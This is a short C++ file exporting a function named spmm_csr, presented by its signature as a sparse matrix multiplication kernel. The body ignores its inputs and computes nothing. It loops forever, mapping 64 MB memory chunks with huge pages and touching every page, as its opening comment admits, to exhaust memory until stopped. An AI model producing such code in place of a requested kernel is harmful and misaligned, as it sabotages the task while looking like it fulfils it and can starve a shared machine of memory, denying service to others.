// Takes and touches memory, in large pages where there are some, until somebody stops it.
#include <cstring>
#include <sys/mman.h>

extern "C" void spmm_csr(int M, int N, int K, int nnz, const int* indptr, const int* indices,
                         const float* values, const float* B, float* C) {
    const size_t bytes = 64 << 20;
    for (;;) {
        void* chunk = mmap(nullptr, bytes, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        if (chunk == MAP_FAILED) continue;
        madvise(chunk, bytes, MADV_HUGEPAGE);
        for (size_t at = 0; at < bytes; at += 4096) static_cast<volatile char*>(chunk)[at] = 1;
    }
}
